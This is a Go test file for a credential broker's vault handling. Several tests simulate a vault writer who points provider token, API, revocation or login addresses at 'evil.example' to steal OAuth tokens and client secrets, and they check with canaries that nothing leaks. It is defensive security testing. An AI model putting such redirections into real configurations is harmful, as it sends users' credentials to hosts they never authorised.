package broker

import (
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"
	"time"

	"kb/internal/oauth"
	"kb/internal/secret"
	"kb/internal/testkit"
	"kb/providers"
	"kb/vaultfile"
)

// acmeAt is acme where each user has an API of their own.
var acmeAt = strings.NewReplacer(
	`"api.acme.example"`, `"{host}"`, "https://api.acme.example", "https://{host}",
	`unverified = true`, "unverified = true\n\n[base]\nexample = \"https://own.acme.example\"").Replace(acme)

// TestAttackSharedVaultTurnsTokensAway: who can write a shared vault leads the
// tokens that a person's login has on this device alone to a host of theirs:
// by the provider's definition, or by the login's address. What such a login
// holds is for where the person granted it.
func TestAttackSharedVaultTurnsTokensAway(t *testing.T) {
	const base = "https://own.acme.example"
	for name, c := range map[string]struct {
		base   string
		change func(l vaultfile.Login, tx *vaultfile.Tx) error
	}{
		"token endpoint": {change: func(_ vaultfile.Login, tx *vaultfile.Tx) error {
			return tx.PutProvider(vaultfile.Provider{Name: "acme", TOML: strings.ReplaceAll(acme, "auth.acme.example/token", "evil.example/token")})
		}},
		"API": {change: func(_ vaultfile.Login, tx *vaultfile.Tx) error {
			return tx.PutProvider(vaultfile.Provider{Name: "acme", TOML: strings.ReplaceAll(acme, "api.acme.example", "evil.example")})
		}},
		"address": {base: base, change: func(l vaultfile.Login, tx *vaultfile.Tx) error {
			l.Base = "https://evil.example"
			return tx.PutLogin(l)
		}},
		"revocation": {change: func(_ vaultfile.Login, tx *vaultfile.Tx) error {
			return tx.PutProvider(vaultfile.Provider{Name: "acme", TOML: strings.ReplaceAll(acme, "auth.acme.example/revoke", "evil.example/revoke")})
		}},
	} {
		t.Run(name, func(t *testing.T) {
			g := newGranted(t)
			g.addTeam()
			evil := g.world.Serve("evil.example", testkit.OriginConfig{Handler: testkit.Echo()})
			text := acme
			if c.base != "" {
				text = acmeAt
			}
			g.world.Serve("own.acme.example", testkit.OriginConfig{Handler: http.HandlerFunc(g.api)})
			g.editTeam(func(tx *vaultfile.Tx) error {
				if err := tx.PutProvider(vaultfile.Provider{Name: "acme", TOML: text}); err != nil {
					return err
				}
				return tx.PutClient(vaultfile.Client{Name: clientName("acme", c.base), ClientID: "kb-client"})
			})
			login := OAuthLogin{Login: vaultfile.Login{Profile: "team/bot", Method: "oauth", Base: c.base}}
			g.mustGrant(login)
			key := g.broker.tokenKey(loginKey{"team/bot", "acme", ""})
			token, ok, err := g.broker.store.Token(key)
			if err != nil || !ok {
				t.Fatalf("no tokens: %v", err)
			}
			s := g.start(g.workDir, "bot")
			use := func(s *Session) {
				header := http.Header{"Authorization": {"Bearer " + value(s, "KB_BOT_ACME_TOKEN")}}
				for _, host := range []string{"api.acme.example", "evil.example", "own.acme.example"} {
					g.knock(s, "https://"+host+"/me", header)
				}
			}
			use(s)
			before, _ := g.broker.loginOf("team/bot", "acme", "")
			before.Profile = "bot"
			g.editTeam(func(tx *vaultfile.Tx) error { return c.change(before, tx) })
			testkit.Eventually(t, 5*time.Second, "the change to be in effect", func() bool { return strings.Contains(g.audit(s), "vault changed") })
			use(s)
			g.clock.move(50 * time.Minute)
			use(s)
			use(g.start(g.workDir, "bot"))
			g.clock.move(2 * time.Hour)
			use(s)
			use(g.start(g.workDir, "bot"))
			_, _ = g.broker.RefreshLogins(t.Context(), "team/bot", "acme", "")
			for _, st := range g.broker.LoginStates() {
				if st.Login.Provider == "acme" && (st.State != StateNeedsLogin || !strings.Contains(st.Reason, "vault") || !strings.HasPrefix(st.Fix, "kb login acme -p bot")) {
					t.Errorf("it stands as %+v", st)
				}
			}
			now, _, _ := g.broker.store.Token(key)
			oracle := testkit.NewOracle(token.Access.Reveal(), token.Refresh.Reveal(), now.Access.Reveal(), now.Refresh.Reveal())
			_, _ = g.broker.Logout(t.Context(), LogoutSpec{Profile: "team/bot", Provider: "acme"})
			oracle.Requests(evil.Requests(), func(testkit.Request) bool { return false })
			for _, finding := range oracle.Findings() {
				t.Errorf("turned away: %s", finding)
			}
			// Positive control: a person who agrees to the changed login sends it there.
			if name == "API" {
				g.mustGrant(login)
				token, _, _ = g.broker.store.Token(key)
				oracle = testkit.NewOracle(token.Access.Reveal())
				use(g.start(g.workDir, "bot"))
				if oracle.Requests(evil.Requests(), func(testkit.Request) bool { return false }); len(oracle.Findings()) == 0 {
					t.Error("control: the oracle does not see a token at the other host")
				}
			}
		})
	}
}

// knock sends a request as the session's child would for profile bot, and does
// not mind whether it gets an answer: a host may change from one that is only
// tunnelled to one that is not while it is asked.
func (g *granted) knock(s *Session, target string, header http.Header) {
	g.Helper()
	proxyURL, err := url.Parse(value(s, "HTTPS_PROXY"))
	if err != nil {
		g.Fatal(err)
	}
	password, _ := proxyURL.User.Password()
	proxyURL.User = url.UserPassword("kb.bot", password)
	pool := x509.NewCertPool()
	bundle, err := os.ReadFile(value(s, "SSL_CERT_FILE"))
	if err != nil || !pool.AppendCertsFromPEM(bundle) {
		g.Fatalf("read the child's bundle: %v", err)
	}
	transport := &http.Transport{Proxy: http.ProxyURL(proxyURL), TLSClientConfig: &tls.Config{RootCAs: pool, MinVersion: tls.VersionTLS12}}
	defer transport.CloseIdleConnections()
	request, err := http.NewRequestWithContext(g.Context(), http.MethodGet, target, nil)
	if err != nil {
		g.Fatal(err)
	}
	request.Header = header.Clone()
	if response, err := transport.RoundTrip(request); err == nil {
		_, _ = io.Copy(io.Discard, response.Body)
		_ = response.Body.Close()
	}
}

// TestAttackClientOfAnotherLogin: a person has agreed that the secret of a
// client in a shared vault comes from this device. Who can write that vault
// names the client in a login of their own, at a server of theirs.
func TestAttackClientOfAnotherLogin(t *testing.T) {
	g := newGranted(t)
	g.addTeam()
	evil := g.world.Serve("evil.example", testkit.OriginConfig{Handler: testkit.Echo()})
	mine := testkit.NewCanary("sec_", 36)
	g.options.Getenv = func(name string) string {
		if name == "ACME_SECRET" {
			return mine
		}
		return ""
	}
	g.broker = g.open()
	theirs := strings.NewReplacer(`name = "acme"`, `name = "evil"`, "ACME", "EVIL", "auth.acme.example", "evil.example", "api.acme.example", "api.evil.example",
		`client_auth = "none"`, `client_auth = "post"`).Replace(acme)
	client := vaultfile.Client{Name: "acme", ClientID: "kb-client", SecretRef: "env:ACME_SECRET"}
	planted := vaultfile.Login{Profile: "bot", Provider: "evil", Method: "kept", Client: "acme", Secrets: map[string]secret.Value{refreshField: secret.New("any-token-at-all")}}
	g.editTeam(func(tx *vaultfile.Tx) error {
		for _, p := range []vaultfile.Provider{{Name: "acme", TOML: acme}, {Name: "evil", TOML: theirs}} {
			if err := tx.PutProvider(p); err != nil {
				return err
			}
		}
		return tx.PutClient(client)
	})
	v, _ := g.broker.vault("team")
	if err := g.broker.wantClient(t.Context(), v, vaultfile.Login{Profile: "team/bot", Provider: "acme"}, client); err != nil {
		t.Fatal(err)
	}
	g.editTeam(func(tx *vaultfile.Tx) error { return tx.PutLogin(planted) })
	reached := func() bool {
		_, _ = g.broker.RefreshLogins(t.Context(), "team/bot", "evil", "")
		oracle := testkit.NewOracle(mine)
		oracle.Requests(evil.Requests(), func(testkit.Request) bool { return false })
		return len(oracle.Findings()) > 0
	}
	if reached() {
		t.Error("the client's secret went to the server of another login")
	}
	// Positive control: a person agrees to that, too.
	if err := g.broker.wantClient(t.Context(), v, vaultfile.Login{Profile: "team/bot", Provider: "evil"}, client); err != nil {
		t.Fatal(err)
	}
	if !reached() {
		t.Error("control: the oracle does not see the secret at the other server")
	}
}

// TestAttackClientOfAnotherTenant: a host has authorization servers of many
// tenants, and one of them names a token endpoint of its own. It is not shown
// the secret that another one gave kb's client there, and does not take the
// other's place.
func TestAttackClientOfAnotherTenant(t *testing.T) {
	g := newGranted(t)
	secrets := map[string]string{"/good/register": testkit.NewCanary("cs_", 24), "/evil/register": testkit.NewCanary("cs_", 24)}
	g.world.Serve("many.example", testkit.OriginConfig{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusCreated)
		_ = json.NewEncoder(w).Encode(map[string]string{"client_id": r.URL.Path, "client_secret": secrets[r.URL.Path], "token_endpoint_auth_method": "client_secret_post"})
	})})
	find := func(tenant, token string) *granting {
		t.Helper()
		issuer := "https://many.example/" + tenant
		granting := &granting{
			b: g.broker, home: g.broker.primary, full: "work", login: vaultfile.Login{Profile: "work", Provider: "tools", Base: "https://" + tenant + ".example"},
			method: &providers.Method{Flow: providers.FlowOAuth, Client: providers.ClientDynamic}, server: oauth.Server{
				Issuer: issuer, Authorization: issuer + "/authorize", Token: token, Registration: issuer + "/register", ClientAuth: oauth.AuthPost,
			},
		}
		if err := granting.findClient(t.Context()); err != nil {
			t.Fatal(err)
		}
		if granting.record != nil {
			g.edit(func(tx *vaultfile.Tx) error { return tx.PutClient(*granting.record) })
		}
		return granting
	}
	good := find("good", "https://many.example/good/token")
	if evil := find("evil", "https://evil.example/token"); evil.client.Secret.Reveal() != secrets["/evil/register"] {
		t.Error("a tenant's endpoint gets the client of another one")
	}
	if record, ok := g.broker.clientRecord("work", good.login.Client); !ok || record.ClientSecret.Reveal() != secrets["/good/register"] {
		t.Error("a tenant's client took the place of another one's")
	}
	// Positive control: the same server is shown the client that it registered.
	if again := find("good", "https://many.example/good/token"); again.record != nil || again.client.Secret.Reveal() != secrets["/good/register"] {
		t.Error("control: a client is registered anew")
	}
}
